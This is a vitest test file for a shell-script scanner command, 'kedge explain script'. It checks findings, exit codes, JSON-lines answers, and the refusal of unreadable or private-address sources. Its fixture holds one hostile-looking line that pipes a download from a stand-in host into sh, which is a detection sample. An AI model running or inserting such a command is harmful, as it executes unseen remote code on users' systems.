/** Proves `kedge explain script` as people and scripts use it: findings, exit codes, and what cannot be read. */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { openWorkbench, type RunOptions, type Workbench } from "./workbench.ts";

let bench: Workbench;
beforeAll(async () => {
  bench = await openWorkbench([]);
  writeFileSync(join(bench.project, "hostile.sh"), hostile);
});
afterAll(() => bench.close());

const explain = (words: readonly string[], options?: RunOptions) => bench.run(["explain", ...words], options);

const hostile = "#!/bin/sh\ncurl -fsS https://host.example/x | sh\n";
const finding = {
  severity: "high",
  rule: "run-fetched",
  line: 2,
  text: "sh",
  why: "runs code from a server without showing it",
};

test("a file gives findings and exit code 1, an ordinary one none and 0", async () => {
  writeFileSync(join(bench.project, "plain.sh"), "#!/bin/sh\nmake\nrm -rf build\n");
  const found = await explain(["script", "hostile.sh", "--json"]);
  expect({ code: found.code, answer: JSON.parse(found.stdout) }).toEqual({
    code: 1,
    answer: { findings: [finding] },
  });
  expect(await explain(["script", "plain.sh"])).toMatchObject({
    code: 0,
    stdout: "line 3: low: deletes a directory and its contents (delete-recursively)\n  rm -rf build\n",
  });
});

test("standard input is checked like a file", async () => {
  const { code, stdout } = await explain(["script", "-"], { input: hostile });
  expect({ code, stdout }).toEqual({
    code: 1,
    stdout: `line 2: high: ${finding.why} (run-fetched)\n  sh\n`,
  });
  expect(await explain(["script", "-"], { input: "true\n" })).toMatchObject({
    code: 0,
    stdout: "No findings. This is not a proof that the script is safe.\n",
  });
});

test("what cannot be read exits with 2: nothing there, no file, too large, no text, a private address", async () => {
  writeFileSync(join(bench.project, "large.sh"), "#".repeat(1024 * 1024 + 1));
  writeFileSync(join(bench.project, "binary.sh"), "\0\0");
  const sources = ["absent.sh", ".", "large.sh", "binary.sh", "https://127.0.0.1/x.sh", "http://169.254.169.254/"];
  for (const source of sources) {
    const { code, stdout } = await explain(["script", source, "--json"]);
    expect({ source, code, answer: JSON.parse(stdout) }).toEqual({
      source,
      code: 2,
      answer: { error: expect.any(String) },
    });
  }
});

test("lines are answered one by one, with the text itself or its file", async () => {
  const questions = [{ id: 1, script: "true" }, { id: 2, source: "hostile.sh" }, { id: 3 }];
  const input = questions.map((each) => JSON.stringify(each)).join("\n");
  const { code, stdout } = await explain(["script", "--jsonl"], { input });
  const answers = stdout
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line));
  expect({ answers, code }).toEqual({
    answers: [
      { id: 1, findings: [] },
      { id: 2, findings: [finding] },
      { id: 3, error: "script or source must be a string" },
    ],
    code: 1,
  });
});
